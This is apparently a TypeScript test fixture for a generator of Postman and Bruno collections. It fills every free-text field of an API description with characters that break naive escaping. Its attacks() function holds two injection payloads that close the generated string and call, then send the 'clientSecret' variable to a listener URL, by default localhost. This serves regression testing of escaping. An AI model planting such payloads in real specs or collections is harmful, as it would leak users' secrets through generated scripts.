// Descriptions whose every free-text string holds what breaks naive code generation: quotes of
// each kind, backticks, `${}`, `</script>`, `<!--`, a newline, U+2028 and a backslash. Each comes
// with its twin holding plain words in the same places, so outputs can be compared shape for shape.
import { readFileSync } from 'node:fs';
import { parse, stringify } from 'yaml';
import { loadSpec } from '../../loader/index.js';
import type { ApiModel } from '../../model/model.js';
import { FIXTURE_SPEC } from '../support/model.js';

export const HOSTILE = 'it\'s "quoted" `ticked` ${globalThis.injected = 1} </script><!-- x\nnext line\u2028separated\u2029 back\\slash \\\'';

/** Attacks that were valid code in the generators' old quoting, each sending the secret to `listener`. */
export function attacks(listener: string): { postman: string; bruno: string } {
  return {
    // Inside `pm.test('every ... = <equals>', () => {`: closes the name and the call, then sends.
    // (No `+`: Postman sends it unencoded in a query value, and a server reads it as a space.)
    postman: `x', () => {}); pm.sendRequest('${listener}/postman?'.concat(pm.variables.get('clientSecret')), () => {}); pm.test('y`,
    // Inside `console.log("Skipping <name>: ...")` within an if block: closes both, then sends.
    bruno: `x"); } await bru.sendRequest({ method: 'GET', url: '${listener}/bruno?' + bru.getEnvVar('clientSecret') }); { //`,
  };
}

export interface Variant {
  /** Added to every free-text string (after a space). */
  text: string;
  /** For header values, which HTTP allows no line breaks in. */
  header: string;
  /** A string enum value added to the status filter, used by a case as query value and `equals`. */
  status: string;
  /** Added to the name of the endpoint whose pre-request script skips it. */
  skippedName: string;
}

export const PLAIN: Variant = { text: 'plain', header: 'plain', status: 'plainStatus', skippedName: 'plain' };

export function hostile(listener = 'http://127.0.0.1:9'): Variant {
  const attack = attacks(listener);
  return { text: HOSTILE, header: HOSTILE.replace(/[\n\u2028\u2029]/g, ' '), status: attack.postman, skippedName: attack.bruno };
}

// The parsed YAML is edited freely; the loader then validates the result.
type Data = Record<string, any>;

/** The fixture description's text with the variant's strings in every free-text field. */
export function variantText(v: Variant): string {
  const spec = parse(readFileSync(FIXTURE_SPEC, 'utf8')) as Data;
  const add = (value: string) => `${value} ${v.text}`;
  spec.info.name = add(spec.info.name);
  spec.info.version = add(spec.info.version);
  spec.info.description = add(spec.info.description);
  spec.info.docs = `${spec.info.docs}/${v.text}`;
  spec.environments.forEach((env: Data) => {
    env.name = add(env.name);
    if (env.values) for (const key of Object.keys(env.values)) env.values[key] = add(env.values[key]);
  });
  spec.auth.description = add(spec.auth.description);
  spec.auth.headers['X-Description'] = v.header;
  spec.resources.forEach((resource: Data) => {
    resource.name = add(resource.name);
    resource.description = add(resource.description);
    resource.endpoints.forEach((endpoint: Data) => editEndpoint(endpoint, v, add));
  });
  for (const schema of Object.values<Data>(spec.schemas)) schema.description = add(schema.description ?? '');
  spec.contract.cases.forEach((c: Data) => {
    c.name = add(c.name);
    c.basis = add(c.basis ?? '');
    if (c.expect.everyItem) {
      c.query.status = v.status;
      c.expect.everyItem.equals = v.status;
    }
  });
  spec.unknowns = spec.unknowns.map(add);
  return stringify(spec);
}

function editEndpoint(endpoint: Data, v: Variant, add: (value: string) => string): void {
  endpoint.name = endpoint.requires ? `${endpoint.name} ${v.skippedName}` : add(endpoint.name);
  endpoint.description = add(endpoint.description);
  for (const param of [...(endpoint.query ?? []), ...(endpoint.pathParams ?? [])]) {
    param.description = add(param.description);
    if (param.name === 'status') {
      param.enum = [...param.enum, v.status];
      param.example = v.status;
    }
  }
  for (const response of endpoint.responses) response.description = add(response.description);
  for (const example of endpoint.examples ?? []) example.name = add(example.name);
}

export function variantModel(text: string, file = 'injection.yaml'): ApiModel {
  return loadSpec(new TextEncoder().encode(text), file);
}
